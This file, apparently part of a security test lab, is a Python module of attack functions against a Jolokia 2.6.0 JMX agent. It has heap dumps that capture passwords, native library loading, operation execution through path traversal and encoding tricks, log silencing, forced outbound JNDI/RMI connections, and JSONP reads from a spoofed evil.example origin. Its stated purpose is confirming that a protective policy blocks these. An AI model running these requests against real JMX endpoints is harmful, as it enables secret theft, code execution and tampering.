"""What somebody who reaches a JMX agent may try; each attack says whether it has had an effect.

They succeed on Jolokia 2.6.0 as it is without a policy, and a test keeps seeing that. Where Jolokia's source makes one
worth trying, its class is named.
"""

import json
import select
import socket
from collections.abc import Callable, Mapping, Sequence
from dataclasses import dataclass, field
from http.client import HTTPConnection
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

from lab.endpoints import METRICS_ORIGIN, basic
from lab.stack.metrics_agent import USER

ORIGIN = {"Origin": METRICS_ORIGIN}
NOBODY: Mapping[str, str] = {}
PAGE = {"Origin": "http://evil.example", "Host": "evil.example", "Content-Type": "text/plain"}
SAME_ORIGIN_PAGE = {"Host": "evil.example:8778", "Referer": "http://evil.example:8778/"}
"""A page whose name leads to the agent: it reads answers, and its browser names no origin."""
NO_REFERRER_PAGE = {"Host": "evil.example:8778"}
SANDBOXED_PAGE = {"Origin": "null"}
WRONG_PASSWORD = {**ORIGIN, "Authorization": basic(USER, "guessed")}
PAGES = {
    "page": PAGE,
    "page of its own name": SAME_ORIGIN_PAGE,
    "page without referrer": NO_REFERRER_PAGE,
    "sandboxed page": SANDBOXED_PAGE,
}
STRANGERS = {**PAGES, "nobody": NOBODY, "no password": ORIGIN, "wrong password": WRONG_PASSWORD}
GC = {"type": "exec", "mbean": "java.lang:type=Memory", "operation": "gc"}
UPTIME = {"type": "read", "mbean": "java.lang:type=Runtime", "attribute": "Uptime"}
FIGURE = {"type": "read", "mbean": "java.lang:type=Compilation", "attribute": "TotalCompilationTime"}
ANSWER_WITHIN_S = 20


@dataclass(frozen=True)
class Attacker:
    """Somebody who sends requests as they are, with nothing made shorter or escaped.

    Attributes:
        folder: One that the agent's process may write to.
    """

    url: str
    folder: Path
    headers: Mapping[str, str] = field(default_factory=dict)

    def get(self, path: str) -> Any:
        """The answer to a GET below the agent's path, as JSON if it is that."""
        return self.send("GET", path)

    def post(self, question: Any, path: str = "/") -> Any:
        """The answer to a POST."""
        return self.send("POST", path, json.dumps(question))

    def send(self, method: str, path: str, body: str | None = None) -> Any:
        """The answer to any request."""
        parts = urlsplit(self.url)
        connection = HTTPConnection(parts.hostname or "", parts.port, timeout=ANSWER_WITHIN_S)
        try:
            connection.request(method, f"{parts.path}{path}", body, dict(self.headers))
            text = connection.getresponse().read().decode()
        finally:
            connection.close()
        try:
            return json.loads(text)
        except ValueError:
            return text


def worked(answer: Any) -> bool:
    """Whether the agent did what it was asked, or one of several things."""
    parts = answer if isinstance(answer, list) else [answer]
    return any(isinstance(part, dict) and part.get("status") == 200 for part in parts)


def dump_heap(attacker: Attacker) -> bool:
    """Write all that the process holds, passwords included, into a file."""
    dump = attacker.folder / "attack.hprof"
    dump.unlink(missing_ok=True)
    path = str(dump).replace("/", "!/")
    attacker.get(f"/exec/com.sun.management:type=HotSpotDiagnostic/dumpHeap/{path}/true")
    return dump.exists()


def load_library(attacker: Attacker) -> bool:
    """Run machine code as the process's user; that there is no such library is found out only by loading it."""
    return worked(attacker.get("/exec/com.sun.management:type=DiagnosticCommand/jvmtiAgentLoad/!/nowhere!/attack.so"))


def exec_by_post(attacker: Attacker) -> bool:
    """An operation, alone and among others; and where the agent asks for no password (`JolokiaServer.start`)."""
    return any([worked(attacker.post(GC)), worked(attacker.post([UPTIME, GC])), worked(attacker.post(GC, "/config"))])


def exec_by_other_paths(attacker: Attacker) -> bool:
    """An operation by the parameter for a path, by odd slashes, by a pattern, below the path without a password."""
    paths = (
        "/?p=exec/java.lang:type=Memory/gc",
        "//exec/java.lang:type=Memory/gc",
        "/exec/java.lang:type=Mem*/gc",
        "/exec/java.lang:type=Memory/gc()",
        "/config/../exec/java.lang:type=Memory/gc",
        "/config?p=exec/java.lang:type=Memory/gc",
        "/%63onfig/%2e%2e/exec/java.lang:type=Memory/gc",
    )
    return any(map(worked, [attacker.get(path) for path in paths]))


def set_attribute(attacker: Attacker) -> bool:
    """Set an attribute, by GET and by POST."""
    written = {"type": "write", "mbean": "java.lang:type=Memory", "attribute": "Verbose", "value": "false"}
    answers = (
        attacker.get("/write/java.lang:type=Memory/Verbose/false"),
        attacker.post(written),
        attacker.post(written, "/config"),
    )
    return any(map(worked, answers))


def set_log_level(attacker: Attacker) -> bool:
    """Make the process silent, by the logging that every JVM has."""
    level = {"type": "exec", "mbean": "java.util.logging:type=Logging", "operation": "setLoggerLevel"}
    answers = (
        attacker.get("/exec/java.util.logging:type=Logging/setLoggerLevel/global/OFF"),
        attacker.post({**level, "arguments": ["", "OFF"]}),
    )
    return any(map(worked, answers))


def read_what_is_none_of_ours(attacker: Attacker) -> bool:
    """Properties, arguments and more: alone, in a list, with an inner path, by a pattern, of all MBeans."""
    arguments = {**UPTIME, "attribute": "InputArguments"}
    answers = (
        attacker.get("/read/java.lang:type=Runtime/SystemProperties"),
        attacker.get("/read/java.lang:type=Runtime/SystemProperties/java.class.path"),
        attacker.get("/read/java.lang:type=Compilation"),
        attacker.get("/read/java.lang:type=Comp*,*/Name"),
        attacker.post(arguments),
        attacker.post([arguments, arguments]),
        attacker.post(arguments, "/config"),
    )
    return any(map(worked, answers)) or has_value_of_others(attacker.get(ALL_THERE_IS))


ALL_THERE_IS = "/read/*:*?ignoreErrors=true&maxDepth=4"
OURS = ("sluice.connect:", "java.lang:type=Compilation", "java.lang:type=OperatingSystem", "kafka.connect:")


def has_value_of_others(answer: Any) -> bool:
    """Whether one value of an MBean is shown that is none of ours, among all that refuse to be."""
    if not worked(answer):
        return False
    others = (value for bean, value in answer["value"].items() if not bean.startswith(OURS))
    values = (value for bean in others for value in bean.values())
    return any(not (isinstance(value, dict) and value.get(".error")) for value in values)


def look_around(attacker: Attacker) -> bool:
    """All names, attributes and operations."""
    return any(map(worked, (attacker.get("/list"), attacker.get("/search/*:*"), attacker.post({"type": "list"}))))


def have_it_connect(attacker: Attacker) -> bool:
    """Make the agent open a connection elsewhere, whose answer Java then makes objects of (`Jsr160RequestHandler`)."""
    with socket.create_server(("127.0.0.1", 0)) as elsewhere:
        target = {"url": f"service:jmx:rmi:///jndi/rmi://127.0.0.1:{elsewhere.getsockname()[1]}/attack"}
        return any([connected(attacker, path, {**UPTIME, "target": target}, elsewhere) for path in ("/", "/config")])  # noqa: C419 - each


def connected(attacker: Attacker, path: str, question: Any, elsewhere: socket.socket) -> bool:
    """Whether the agent connects to elsewhere before it answers."""
    parts = urlsplit(attacker.url)
    sending = HTTPConnection(parts.hostname or "", parts.port)
    try:
        sending.request("POST", f"{parts.path}{path}", json.dumps(question), dict(attacker.headers))
        ready, _, _ = select.select([elsewhere, sending.sock], [], [], ANSWER_WITHIN_S)
        if elsewhere in ready:
            elsewhere.accept()[0].close()
        return elsewhere in ready
    finally:
        sending.close()


def listen(attacker: Attacker) -> bool:
    """Have an MBean's notifications kept, which no policy forbids (`NotificationHandler.checkForRestriction`)."""
    client = attacker.get("/notification/register")
    if not worked(client):
        return False
    return worked(attacker.get(f"/notification/add/{client['value']['id']}/pull/java.lang:type=Memory"))


def by_script(attacker: Attacker) -> bool:
    """An answer that any page may load as a script."""
    answer = attacker.get("/read/java.lang:type=Runtime/SystemProperties?callback=stolen&mimeType=text/plain")
    return isinstance(answer, str) and answer.startswith("stolen(") and "java.class.path" in answer


ATTACKS: Sequence[Callable[[Attacker], bool]] = (
    dump_heap,
    load_library,
    exec_by_post,
    exec_by_other_paths,
    set_attribute,
    set_log_level,
    read_what_is_none_of_ours,
    look_around,
    have_it_connect,
    listen,
    by_script,
)


def succeeded(attacker: Attacker) -> set[str]:
    """The attacks that have an effect."""
    return {attack.__name__ for attack in ATTACKS if attack(attacker)}


def figures_shown(attacker: Attacker) -> bool:
    """Whether a figure is shown, by any way in."""
    answers = (
        attacker.get("/read/java.lang:type=Compilation/TotalCompilationTime"),
        attacker.post(FIGURE),
        attacker.post(FIGURE, "/config"),
        attacker.get("/config/../read/java.lang:type=Compilation/TotalCompilationTime"),
    )
    return any(map(worked, answers))
